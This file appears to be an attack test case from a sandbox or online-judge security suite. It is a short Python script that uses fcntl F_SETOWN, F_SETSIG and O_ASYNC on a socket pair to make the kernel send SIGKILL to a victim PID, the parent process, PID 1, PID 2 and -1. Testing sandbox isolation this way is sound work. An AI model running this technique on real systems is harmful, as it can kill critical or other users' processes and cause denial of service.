# attack: 115_sigio_kill
# kind: stdio
# expect: WA|RE
# note: lets the kernel send SIGKILL by F_SETOWN, F_SETSIG and O_ASYNC
import fcntl, os, socket

victim = int(open("@CANARY@/victim").read()) if os.path.exists("@CANARY@/victim") else 1
a, b = socket.socketpair()
for pid in (victim, os.getppid(), 1, 2, -1):
    try:
        fcntl.fcntl(a, fcntl.F_SETOWN, pid)
        fcntl.fcntl(a, 10, 9)
        fcntl.fcntl(a, fcntl.F_SETFL, fcntl.fcntl(a, fcntl.F_GETFL) | os.O_ASYNC)
        b.send(b"x")
    except OSError:
        pass
print(0)
